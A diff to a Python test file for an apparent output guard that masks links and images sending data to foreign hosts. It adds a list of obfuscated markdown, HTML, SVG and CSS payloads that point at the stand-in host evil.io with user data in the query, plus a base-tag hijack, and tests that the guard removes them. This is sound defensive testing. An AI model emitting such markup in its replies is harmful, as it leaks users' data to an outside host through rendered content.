@@ -1,5 +1,7 @@
 """Links and images that carry data to foreign hosts do not leave."""
 
+import html
+import random
 from collections.abc import Sequence
 
 import pytest
@@ -8,7 +10,8 @@ from arc_core import OutputGuard, RejectionCategory
 from arc_core.testing.conformance.output_guard import OutputGuardConformance
 from arc_plugins.output_guards.leak_detection.links import LinkOutputGuard
 from arc_plugins.output_guards.leak_detection.settings import LeakMode, OutputSettings
-from tests.arc_plugins.output_guards.streaming import RejectedError, mask
+from tests.arc_plugins.output_guards.markup import make_markup, what_leaves
+from tests.arc_plugins.output_guards.streaming import RejectedError, cut, mask, stream
 
 MASK = OutputSettings(links=LeakMode.MASK, allowed_hosts=("docs.corp.io", "*.trusted.dev"))
 DATA = "aB3dE6gH9jK2mN5pQ8sT1vW4" * 4
@@ -31,6 +34,31 @@ LEAKS = (
     (f'<meta http-equiv="refresh" content="0;url=https://evil.io/?d={DATA}">', "[link]"),
     ("https://evil.io/track?email=ann@shop.io b", "[link] b"),
 )
+QUERY = "https://evil.io/p?user=ann&balance=31000"
+HIDDEN = (
+    f"![chart\nof sales]({QUERY})",
+    f"![a [b] c]({QUERY})",
+    f"![{'a' * 300}]({QUERY})",
+    f"![a `]` b]({QUERY})",
+    f"![a [b](u]v) c]({QUERY})",
+    "![a](https\\://evil.io/p?user=ann&amp;balance=31000)",
+    f"![a](\n{QUERY} 'b')",
+    f"![a](<{QUERY} b>)",
+    "![a](https:evil.io/p?user=ann&balance=31000)",
+    f"[a]:\n  {QUERY}\n\n![a]",
+    f"<svg><use href='{QUERY}#a'/></svg>",
+    f"<feImage xlink:href='{QUERY}'>",
+    f"<img a=\"<img b='>\" alt='>' src={QUERY}>",
+    f"<iframe srcdoc=\"&lt;img src='{QUERY}'>\">",
+    "<img src='https://evil.io/p?us\ner=ann&balance=31000'>",
+    f"<p style=\"background: url(  '{QUERY}')\">",
+    f"<p style='background: u&#92;72l({QUERY})'>",
+    f"<style>@import '{QUERY}';</style>",
+    f"<style>@import/**/url( {QUERY} )</style>",
+    f"b {{ background: image-set('a.png' 1x, '{QUERY}' 2x) }}",
+    f"b {{ background: \\75rl({QUERY}) }}",
+    "<base href='https://evil.io/'>",
+)
 HARMLESS = (
     "https://docs.python.org/3/library/re.html#re.compile",
     "https://en.wikipedia.org/wiki/Foo_(bar)",
@@ -45,6 +73,9 @@ HARMLESS = (
     '<link href="https://fonts.shop.io/css2?family=Inter:wght@400&display=swap" rel="stylesheet">',
     f"https://docs.corp.io/?q={DATA}",
     f"![a](https://a.b.trusted.dev:8443/{DATA})",
+    f"[![a](https://shop.io/a.png)]({QUERY}), ![b](/b.png) and [c]({QUERY}), see url and @import",
+    f"a = [1]; if a[0] < b and c > d: get('{QUERY}'); x = \"style='a'\"; {QUERY}",
+    "<base href='https://docs.corp.io/'>",
     "a // b, C:\\\\Users\\\\ann, s3://bucket/key",
 )
 
@@ -66,6 +97,44 @@ class TestConformance(OutputGuardConformance):
 async def test_a_leak_is_masked(text: str, masked: str) -> None:
     """What is around it leaves."""
     assert await mask(LinkOutputGuard(settings=MASK), text) == masked
+
+
+@pytest.mark.parametrize("text", HIDDEN, ids=range(len(HIDDEN)))
+async def test_a_short_query_does_not_leave_with_what_is_loaded(text: str) -> None:
+    """However an image, an element or a style is written; whole or letter by letter."""
+    guard = LinkOutputGuard(settings=MASK)
+
+    whole = await mask(guard, f"a {text} b")
+
+    assert "evil.io/p?user=ann" not in html.unescape(whole).replace("\n", "").replace("\\", "")
+    assert "evil.io/'>" not in whole
+    assert await stream(guard, f"a {text} b") == whole
+
+
+async def test_a_mask_makes_no_image_with_what_is_around_it() -> None:
+    """Nor a definition that an image refers to."""
+    guard = LinkOutputGuard(settings=MASK)
+
+    whole = await mask(guard, f"!<img src='//evil.io/?d=ann'>({QUERY}), https://a:b@c: {QUERY}")
+
+    assert whole == f"!(link)({QUERY}), (link): {QUERY}"
+
+
+@pytest.mark.timeout(60)
+async def test_a_renderer_gets_no_address_with_data() -> None:
+    """Of made texts, rendered by markdown-it or read as HTML, and split at random."""
+    guard, dice = LinkOutputGuard(settings=MASK), random.Random(26)
+    carrying = 0
+    for _ in range(250):
+        text = make_markup(dice)
+        carrying += any(what_leaves(text))
+
+        whole = await mask(guard, text)
+
+        assert list(what_leaves(whole)) == [], text
+        pieces = cut(text, [dice.randrange(10_000) for _ in range(dice.randrange(20))])
+        assert await stream(guard, pieces) == whole, text
+    assert carrying > 200
 
 
 @pytest.mark.parametrize("text", HARMLESS)
